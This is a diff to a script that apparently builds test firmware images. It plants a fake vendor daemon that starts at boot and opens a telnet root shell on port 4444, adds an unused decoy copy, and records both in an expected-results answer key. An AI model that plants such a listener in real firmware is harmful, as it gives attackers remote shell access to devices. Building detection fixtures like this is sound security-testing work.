@@ -10,6 +10,7 @@
 set -euo pipefail
 OUT=$1
 R=$OUT/rootfs
+command -v gcc >/dev/null || { echo "services.sh: gcc not found" >&2; exit 1; }
 mkdir -p "$R"/etc/{init.d,rc.d,default,config,ssh,xinetd.d,cron.d,crontabs,hotplug.d/net} \
   "$R"/lib/systemd/system/{multi-user.target.wants,sockets.target.wants} \
   "$R"/etc/systemd/system/serial-getty@ttyS1.service.d "$R"/usr/sbin "$R"/usr/bin "$R"/bin \
@@ -271,8 +272,20 @@ SUBSYSTEM ~~ (^usb$) {
 }
 EOF
 
+# A vendor daemon with a shell listener inside (a command line passed to system()), started by
+# rcS; the same program under another name that nothing starts is a decoy.
+cat >"$OUT/vendord.c" <<'EOF'
+#include <stdlib.h>
+int main(int argc, char **argv) { if (argc > 5) system("telnetd -l /bin/sh -p 4444 &"); return 0; }
+EOF
+gcc -O0 -o "$R/usr/bin/vendord" "$OUT/vendord.c"
+cp "$R/usr/bin/vendord" "$R/usr/bin/vendord-unused"
+echo "/usr/bin/vendord &" >>"$R/etc/init.d/rcS"
+
 P=$'\t'
 cat >"$OUT/expected.tsv" <<EX
+planted${P}CB-SVC-002${P}/usr/bin/vendord${P}telnetd -l /bin/sh
+decoy${P}/usr/bin/vendord-unused
 planted${P}CB-SVC-001${P}/etc/init.d/S50telnet${P}telnetd
 planted${P}CB-SVC-001${P}/lib/systemd/system/telnet@.service${P}in.telnetd
 planted${P}CB-SVC-001${P}/etc/hotplug.d/net/10-telnet${P}telnetd
